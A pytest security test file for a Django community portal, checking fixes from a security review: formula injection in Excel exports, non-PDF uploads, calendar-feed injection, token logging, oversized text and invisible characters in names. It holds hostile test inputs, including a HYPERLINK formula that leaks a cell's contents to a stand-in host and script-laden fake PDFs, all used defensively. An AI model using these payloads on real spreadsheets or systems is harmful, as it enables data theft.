"""Hostile input from the review of 2026-11 (M2, M3, M9, L7, L8, L10, L11, L12): formulas and
control characters in the Excel ledgers, uploads that are not PDFs, server errors on odd input,
feed tokens in the logs, unbounded free text, invisible characters in names, and registration
telling who has an account."""

import datetime
import json
import logging
import re
from io import BytesIO
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape
from django.utils.translation import gettext
from hypothesis import HealthCheck, given
from hypothesis import settings as examples
from hypothesis import strategies as st
from icalendar import Calendar
from openpyxl import load_workbook
from PIL import Image

from community import ledgers, roles
from community.forms import RegistrationForm
from community.models import NewsletterIssue, Resident, User
from community.validators import visible_text
from merit_register.models import Deed, DeedDoer
from schools import calendars
from schools import services as school_services
from schools.models import (
    Attendance,
    Cadre,
    CentralGroupStudy,
    Course,
    CourseSession,
    ReadingNote,
    School,
    StudyPlan,
    Venue,
)
from tests.adminforms import form_data
from volunteers.models import (
    Certificate,
    Child,
    Pairing,
    Shift,
    Station,
    Subject,
    TutoringNote,
    TutoringSession,
    Volunteer,
)

PASSWORD = "学习型社区-2026"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"点此")'
FORMULA_STARTS = ("=", "+", "-", "@")
DEPLOY = Path(__file__).resolve().parents[2] / "deploy"


def chinese(msgid: str, **params) -> str:
    """The zh_Hans text of one of our messages; fails while the catalogue lacks it."""
    with translation.override("zh-hans"):
        text = gettext(msgid)
    assert text != msgid, f"not translated yet: {msgid!r}"
    return text % params if params else text


@pytest.fixture
def superuser(make_user):
    return make_user(mobile="13900000000", name="超级管理员", is_staff=True, is_superuser=True)


@pytest.fixture
def course(db):
    school = School.objects.create(name="健康教育学校", slug="health")
    venue = Venue.objects.create(name="文化活动中心", address="景和路18号")
    return Course.objects.create(
        school=school,
        venue=venue,
        title="太极拳",
        category=Course.Category.TASTE,
        capacity=10,
        status=Course.Status.PUBLISHED,
        teacher="武老师",
    )


def session_of(course, days_from_now=-1):
    starts = timezone.now().replace(microsecond=0) + datetime.timedelta(days=days_from_now)
    return CourseSession.objects.create(
        course=course, starts_at=starts, ends_at=starts + datetime.timedelta(hours=1)
    )


def cells(body: bytes):
    book = load_workbook(BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_and_text_kept(body: bytes, *texts: str):
    every = cells(body)
    assert all(cell.data_type != "f" for cell in every)
    for text in texts:
        cell = next(c for c in every if c.value == text)
        assert cell.data_type == "s"
        if text.lstrip()[:1] in FORMULA_STARTS:
            assert cell.quotePrefix  # Excel keeps it as text even when someone edits it


# --- M2, M3: the Excel ledgers ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "=1+1"),
        ("+1", "+1"),
        ("-2+3", "-2+3"),
        ("@SUM(1)", "@SUM(1)"),
        ("  =1+1", "  =1+1"),
        ("\t=1+1", "\t=1+1"),
        # An XML reader gives a carriage return back as it is (lxml) or as a line feed.
        ("\r=1+1", ("\r=1+1", "\n=1+1")),
        ("＝1+1", "＝1+1"),
        ("张\x0b三", "张三"),
        ("修水管\x01\x07\x00", "修水管"),
        ("王秀英", "王秀英"),
    ],
)
def test_every_ledger_cell_is_plain_text_without_control_characters(value, shown):
    body = ledgers.workbook([("台账", ["姓名"], [[value, 3, datetime.date(2026, 5, 1)]])])

    assert all(cell.data_type != "f" for cell in cells(body))
    sheet = load_workbook(BytesIO(body)).active
    cell = sheet["A2"]
    readings = shown if isinstance(shown, tuple) else (shown,)
    assert cell.value in readings and cell.data_type == "s"
    assert cell.quotePrefix == (readings[0].lstrip()[:1] in "=+-@＝")
    assert sheet["B2"].value == 3 and sheet["C2"].value.date() == datetime.date(2026, 5, 1)


def test_the_course_ledgers_keep_formulas_as_text_and_survive_control_characters(
    client, superuser, course, community, caplog
):
    named = [
        Resident.objects.create(name=name, mobile=mobile, community=community)
        for name, mobile in ((HYPERLINK, "13800000001"), ("张\x0b三", "13800000002"))
    ]
    enrolments = [
        school_services.enrol(offering=course, resident=resident, by=None) for resident in named
    ]
    Attendance.objects.create(session=session_of(course), enrolment=enrolments[0], present=True)
    client.force_login(superuser)

    with caplog.at_level(logging.DEBUG):
        for name in ("schools:staff_enrolments_export", "schools:staff_attendance_export"):
            response = client.get(reverse(name, args=[course.pk]))
            assert response.status_code == 200
            assert_no_formula_and_text_kept(response.content, HYPERLINK, "张三")

    logged = " ".join(record.getMessage() + str(vars(record)) for record in caplog.records)
    assert "HYPERLINK" not in logged and "张" not in logged


def test_the_merit_ledger_keeps_formulas_as_text_and_survives_control_characters(
    client, superuser, community, caplog
):
    for title, status in (
        ("修好水管\x01", Deed.Status.SUBMITTED),
        ("@SUM(1)", Deed.Status.APPROVED),
    ):
        deed = Deed.objects.create(
            title=title,
            story="王师傅修好了水管。",
            date=datetime.date(2026, 5, 1),
            category=Deed.Category.FOR_RESIDENTS,
            beneficiary="-2+3",
            community=community,
            status=status,
        )
        DeedDoer.objects.create(deed=deed, name=HYPERLINK)
    client.force_login(superuser)

    with caplog.at_level(logging.DEBUG):
        response = client.get(
            reverse("merit_register:staff_ledger"), {"start": "2026-05-01", "end": "2026-05-31"}
        )

    assert response.status_code == 200
    assert_no_formula_and_text_kept(response.content, "修好水管", "@SUM(1)", HYPERLINK, "-2+3")
    logged = " ".join(record.getMessage() + str(vars(record)) for record in caplog.records)
    assert "修好水管" not in logged and "HYPERLINK" not in logged


# --- M9: newsletter issues and study plans are PDFs ---------------------------------------------


def tiny_pdf() -> bytes:
    buffer = BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, "PDF")
    return buffer.getvalue()


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def newsletter_post(client, upload):
    return client.post(
        reverse("admin:community_newsletterissue_add"),
        {
            "newsletter": "老同志之友",
            "number": "12",
            "date": "2026-11-01",
            "summary": "本期要目",
            "file": upload,
        },
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("evil.pdf", b'<html><script>fetch("/admin/")</script></html>'),
        ("evil newsletter.html", b"<html><script>alert(1)</script>"),
        ("notes.txt", b"just some text\n"),
        ("half.pdf", b"%PDF-1.7\n<html><script>alert(1)</script>"),  # no PDF trailer
    ],
)
def test_a_newsletter_issue_that_is_not_a_pdf_is_refused_in_chinese(
    client, superuser, media_root, name, content
):
    client.force_login(superuser)

    response = newsletter_post(client, SimpleUploadedFile(name, content, "application/pdf"))

    assert response.status_code == 200
    assert escape(chinese("Only PDF files are accepted.")) in response.content.decode()
    assert not NewsletterIssue.objects.exists()
    assert not any(media_root.rglob("*.*"))


def test_a_newsletter_issue_larger_than_20_mb_is_refused(client, superuser, media_root):
    client.force_login(superuser)
    big = tiny_pdf().replace(b"%%EOF", b" " * (20 * 1024 * 1024) + b"\n%%EOF")

    response = newsletter_post(client, SimpleUploadedFile("big.pdf", big, "application/pdf"))

    assert escape(chinese("The file is larger than 20 MB.")) in response.content.decode()
    assert not NewsletterIssue.objects.exists()


def test_a_real_pdf_is_taken_and_stored_under_a_pdf_name(client, superuser, media_root):
    client.force_login(superuser)

    response = newsletter_post(client, SimpleUploadedFile("第12期", tiny_pdf(), "text/html"))

    assert response.status_code == 302
    issue = NewsletterIssue.objects.get()
    assert issue.file.name == "newsletters/第12期.pdf"
    assert (media_root / issue.file.name).read_bytes().startswith(b"%PDF-")
    # Changing the summary later does not need the file again.
    page = client.get(reverse("admin:community_newsletterissue_change", args=[issue.pk]))
    client.post(page.request["PATH_INFO"], form_data(page, summary="新的要目"))
    issue.refresh_from_db()
    assert issue.summary == "新的要目"


def test_a_study_plan_attachment_must_be_a_pdf(client, superuser, media_root):
    client.force_login(superuser)
    data = {"year": "2026", "title": "学习计划", "audience": "机关干部", "content": "全年安排"}
    url = reverse("admin:schools_studyplan_add")

    refused = client.post(url, {**data, "attachment": SimpleUploadedFile("plan.pdf", b"<svg/>")})
    taken = client.post(url, {**data, "attachment": SimpleUploadedFile("plan.doc", tiny_pdf())})

    assert escape(chinese("Only PDF files are accepted.")) in refused.content.decode()
    assert taken.status_code == 302
    assert StudyPlan.objects.get().attachment.name == "plans/plan.pdf"


def test_nginx_serves_uploads_sandboxed_and_pdfs_as_downloads():
    config = (DEPLOY / "nginx-portal.conf").read_text()
    media = re.search(r"location /media/ \{(.*?)\n    \}", config, re.S).group(1)

    assert "add_header Content-Security-Policy \"default-src 'none'; sandbox\" always;" in media
    assert "add_header X-Content-Type-Options nosniff always;" in media
    assert "add_header Content-Disposition $media_disposition always;" in media
    disposition = re.search(r"map \$uri \$media_disposition \{(.*?)\}", config, re.S).group(1)
    assert "attachment" in disposition and r"\.pdf$" in disposition
    assert "^/media/newsletters/" in disposition


# --- L7: no server errors on odd input ------------------------------------------------------


@pytest.fixture
def station(community):
    return Station.objects.create(name="景和爱心驿站", community=community)


@pytest.fixture
def volunteer(make_user):
    user = make_user(mobile="13500000001", name="史秀英")
    volunteer = Volunteer.objects.create(
        user=user,
        name=user.name,
        university="江城大学",
        major="数学",
        student_number="20240001",
        mobile=user.mobile,
        status=Volunteer.Status.VERIFIED,
        pledge_signed_on=datetime.date(2026, 9, 1),
        verified_at=timezone.now(),
        record_checked_on=datetime.date(2026, 9, 1),
        record_check_result="clear",
        record_checked_by="派出所",
    )
    volunteer.subjects.set(Subject.objects.all())
    return volunteer


def test_a_nul_in_a_certificate_code_is_a_bad_request(client, volunteer, superuser):
    Certificate.objects.create(
        volunteer=volunteer,
        code="A5CAC979D655",
        hours=7.5,
        sessions=3,
        period_start=datetime.date(2026, 9, 12),
        period_end=datetime.date(2026, 11, 28),
        station_names="景和爱心驿站",
    )
    assert client.get("/verify/%00/").status_code == 400
    assert client.get("/verify/A5CAC979D655/").status_code == 200

    client.force_login(volunteer.user)
    assert client.get("/aixinban/certificate/%00/").status_code == 400
    assert client.get("/aixinban/certificate/A5CAC979D655/").status_code == 200

    client.force_login(superuser)
    url = reverse("admin:volunteers_child_changelist")
    assert client.get(url, {"status": "\x00"}).status_code == 400
    assert client.get(url, {"status": "active"}).status_code == 200


def test_a_school_manager_opens_and_saves_their_own_school(client, make_user, course):
    school = course.school
    manager = make_user(mobile="13700000001", name="学校管理员甲", is_staff=True)
    manager.groups.add(Group.objects.get(name=roles.SCHOOL_MANAGER))
    school.managers.add(manager)
    client.force_login(manager)
    url = reverse("admin:schools_school_change", args=[school.pk])

    page = client.get(url)
    assert page.status_code == 200
    saved = client.post(url, form_data(page, name="健康教育学校（新）", slug="hijacked"))

    assert saved.status_code == 302
    school.refresh_from_db()
    assert (school.name, school.slug) == ("健康教育学校（新）", "health")


def test_line_breaks_in_a_course_never_break_or_inject_into_the_calendar_feeds(
    client, course, community
):
    course.title = "太极拳\r\nBEGIN:VEVENT\r\nSUMMARY:钓鱼链接\rX"
    course.teacher = "武老师\n\x0b"
    course.save()
    course.venue.name = "文化\u2028活动中心"
    course.venue.save()
    session_of(course, days_from_now=3)
    resident = Resident.objects.create(name="王秀英", mobile="13800000001", community=community)
    school_services.enrol(offering=course, resident=resident, by=None)
    token = calendars.feed_token(resident)

    for url in (
        reverse("schools:course_calendar", args=[course.pk]),
        reverse("schools:my_calendar", args=[token]),
    ):
        response = client.get(url)
        assert response.status_code == 200
        body = response.content
        lines = body.split(b"\r\n")
        assert lines.count(b"BEGIN:VEVENT") == 1
        assert all(b"\r" not in line and b"\n" not in line for line in lines)
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", body)
        event = Calendar.from_ical(body).walk("VEVENT")[0]
        assert str(event["summary"]) == "太极拳 BEGIN:VEVENT SUMMARY:钓鱼链接 X"
        assert str(event["description"]) == "武老师"
        assert str(event["location"]) == "文化 活动中心 景和路18号"


# --- L8: feed tokens stay out of the request log --------------------------------------------


def test_a_residents_calendar_token_is_not_written_to_the_request_log(
    client, course, community, caplog
):
    resident = Resident.objects.create(name="王秀英", mobile="13800000001", community=community)
    token = calendars.feed_token(resident)

    with caplog.at_level(logging.INFO, logger="portal.request"):
        response = client.get(reverse("schools:my_calendar", args=[token]))

    assert response.status_code == 200
    lines = [r for r in caplog.records if r.name == "portal.request"]
    assert len(lines) == 1 and lines[0].fields["status"] == 200
    assert lines[0].fields["path"].startswith("/my/courses/")
    assert token not in json.dumps([vars(r) for r in caplog.records], default=str)


# --- L10: free text is bounded --------------------------------------------------------------

TWO_MB = "x" * (2 * 1024 * 1024)
TOO_LONG = (
    "Too long: at most %(limit_value)d characters (this has %(show_value)d). Please shorten it."
)


def test_a_2_mb_tutoring_note_is_refused_with_a_message_and_not_saved(
    client, volunteer, station, community
):
    child = Child.objects.create(
        station=station,
        name="刘小明",
        gender="boy",
        grade="四年级",
        guardian_name="刘华军",
        guardian_relation="父亲",
        consent_given_on=datetime.date(2026, 3, 1),
        consent_guardian_name="刘华军",
        consent_text_version="2026-01",
    )
    session = TutoringSession.objects.create(
        station=station, date=timezone.localdate() - datetime.timedelta(days=7)
    )
    Shift.objects.create(session=session, volunteer=volunteer, status="attended", hours=2)
    pairing = Pairing.objects.create(session=session, volunteer=volunteer, child=child)
    client.force_login(volunteer.user)
    url = reverse("volunteers:note_write", args=[pairing.pk])

    field = f"pairing-{pairing.pk}-%s"
    refused = client.post(url, {field % "done": TWO_MB, field % "homework": ""})
    too_long = chinese(TOO_LONG, limit_value=2000, show_value=len(TWO_MB))
    [message] = [str(m) for m in get_messages(refused.wsgi_request)]
    assert too_long in message and not TutoringNote.objects.exists()

    client.post(url, {field % "done": "讲" * 2000, field % "next_focus": "通分"})
    assert len(TutoringNote.objects.get().done) == 2000


def test_a_2_mb_deed_story_is_refused_and_not_saved(client, make_user, community):
    client.force_login(make_user(mobile="13800000009"))
    form = client.get(reverse("merit_register:deed_report")).context["form"]

    response = client.post(
        reverse("merit_register:deed_report"),
        {
            "submission": form["submission"].value(),
            "title": "修好水管",
            "date": "2026-05-01",
            "category": Deed.Category.FOR_RESIDENTS,
            "community": community.pk,
            "beneficiary": "",
            "story": TWO_MB,
            "doers": "王师傅",
        },
    )

    assert response.status_code == 200
    assert response.context["form"].errors["story"] == [
        chinese(TOO_LONG, limit_value=5000, show_value=len(TWO_MB))
    ]
    assert not Deed.objects.exists()


def test_a_2_mb_reading_note_is_refused_and_not_saved(client, make_user):
    user = make_user(mobile="13900000005", name="干部甲")
    cadre = Cadre.objects.create(name="干部甲", department="党政办", user=user)
    study = CentralGroupStudy.objects.create(
        date=datetime.date(2026, 5, 1), topic="学习", mode=CentralGroupStudy.Mode.SELF
    )
    client.force_login(user)

    response = client.post(reverse("schools:cadre_page"), {"study": study.pk, "text": TWO_MB})

    assert "text" in response.context["form"].errors
    assert not ReadingNote.objects.filter(cadre=cadre).exists()


# --- L11: names show as they are ------------------------------------------------------------

INVISIBLE = [
    *map(chr, range(0x200B, 0x2010)),
    *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2066, 0x206A)),
    "\ufeff",
]


@pytest.mark.parametrize("character", INVISIBLE, ids=lambda c: f"U+{ord(c):04X}")
def test_the_name_cleaner_drops_bidi_and_zero_width_characters(character):
    assert visible_text(f"{character}张{character}三{character}") == "张三"


def test_registration_drops_invisible_characters_from_the_name(client, community):
    client.post(reverse("register"), registration(community, name="\u202e理管道街\u200b"))

    assert User.objects.get().name == "理管道街"
    assert Resident.objects.get().name == "理管道街"


def test_a_name_of_invisible_characters_only_is_refused(community):
    form = RegistrationForm(registration(community, name="\u202e\u200b\ufeff"))

    assert not form.is_valid() and "name" in form.errors


def test_a_volunteer_application_drops_invisible_characters_from_the_name(
    client, make_user, community
):
    user = make_user(mobile="13812340000", name="张同学")
    client.force_login(user)

    client.post(
        reverse("volunteers:apply"),
        {
            "name": "\u2066张\u2069同学\ufeff",
            "university": "江城大学",
            "major": "数学",
            "student_number": "20240001",
            "mobile": "13812340000",
            "subjects": [Subject.objects.first().pk],
            "pledge_accepted": "on",
        },
    )

    assert Volunteer.objects.get(user=user).name == "张同学"


def test_the_counter_drops_invisible_characters_from_a_new_residents_name(
    client, superuser, course, community
):
    client.force_login(superuser)

    client.post(
        reverse("schools:staff_counter", args=[course.pk]),
        {
            "create": "1",
            "name": "李\u200d建\u202d国",
            "mobile": "",
            "community": community.pk,
            "birth_year": "",
        },
    )

    assert Resident.objects.get().name == "李建国"


def test_deed_doers_and_beneficiary_drop_invisible_characters(client, make_user, community):
    client.force_login(make_user(mobile="13800000009"))
    form = client.get(reverse("merit_register:deed_report")).context["form"]

    client.post(
        reverse("merit_register:deed_report"),
        {
            "submission": form["submission"].value(),
            "title": "修好水管",
            "date": "2026-05-01",
            "category": Deed.Category.FOR_RESIDENTS,
            "community": community.pk,
            "beneficiary": "张\u202e桂英",
            "story": "王师傅修好了水管。",
            "doers": "王\u200b师傅，\u2067李阿姨\u2069",
        },
    )

    deed = Deed.objects.get()
    assert deed.beneficiary == "张桂英"
    assert [d.name for d in deed.doers.all()] == ["王师傅", "李阿姨"]


# --- L12: mobile numbers and registration ---------------------------------------------------


def registration(community, **overrides):
    data = {
        "mobile": "13812345678",
        "name": "王秀英",
        "community": community.pk,
        "password1": PASSWORD,
        "password2": PASSWORD,
    }
    data.update(overrides)
    return data


@pytest.mark.parametrize("mobile", ["13٨٠٠٠٠٠٠٠٥", "١٣٨١٢٣٤٥٦٧٨", "१३८१२३४५६७८", "13８0000000５"])
def test_a_mobile_number_with_non_ascii_digits_is_refused_or_normalised(client, community, mobile):
    client.post(reverse("register"), registration(community, mobile=mobile))

    if mobile == "13８0000000５":  # full-width digits are the ordinary ones, typed on a phone
        assert User.objects.get().mobile == "13800000005"
    else:
        assert not User.objects.exists() and not Resident.objects.exists()


def test_registration_answers_the_same_whether_or_not_the_number_is_registered(
    client, community, make_user
):
    owner = make_user(mobile="13800000001", name="李建国", password="原来的密码-2025")

    fresh = client.post(reverse("register"), registration(community, mobile="13800000002"))
    fresh_messages = [str(m) for m in get_messages(fresh.wsgi_request)]
    client.logout()
    taken = client.post(reverse("register"), registration(community, mobile="13800000001"))
    taken_messages = [str(m) for m in get_messages(taken.wsgi_request)]

    assert fresh.status_code == taken.status_code == 302
    assert fresh["Location"] == taken["Location"] == reverse("login")
    assert fresh_messages == taken_messages != []
    assert "_auth_user_id" not in client.session
    # The new number has its account; the registered one is untouched and has no second.
    assert User.objects.get(mobile="13800000002").check_password(PASSWORD)
    owner.refresh_from_db()
    assert owner.name == "李建国" and owner.check_password("原来的密码-2025")
    assert User.objects.filter(mobile="13800000001").count() == 1
    assert not Resident.objects.filter(mobile="13800000001").exists()


# --- The fuzzers, over the exports --------------------------------------------------------------

HOSTILE = st.text(
    alphabet=st.sampled_from(list("=+-@＝ \t\r\n\x01\x07\x0b\x1b\x7f张三李四ABC(),\"'&!1")),
    min_size=1,
    max_size=30,
)


@examples(max_examples=60, deadline=None)
@given(value=HOSTILE)
def test_no_text_becomes_a_formula_or_breaks_a_workbook(value):
    body = ledgers.workbook([("台账", ["姓名"], [[value]])])

    cell = load_workbook(BytesIO(body)).active["A2"]
    assert cell.data_type != "f"
    assert cell.value is None or isinstance(cell.value, str)


@examples(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=HOSTILE.filter(lambda text: visible_text(text).strip()))
def test_no_resident_name_breaks_the_course_ledgers(client, superuser, course, community, name):
    resident = Resident.objects.create(name=name[:50], community=community)
    enrolment = school_services.enrol(offering=course, resident=resident, by=None)
    client.force_login(superuser)

    for view in ("schools:staff_enrolments_export", "schools:staff_attendance_export"):
        response = client.get(reverse(view, args=[course.pk]))
        assert response.status_code == 200
        assert all(cell.data_type != "f" for cell in cells(response.content))
    school_services.enrolment_cancel(enrolment=enrolment, by=None)
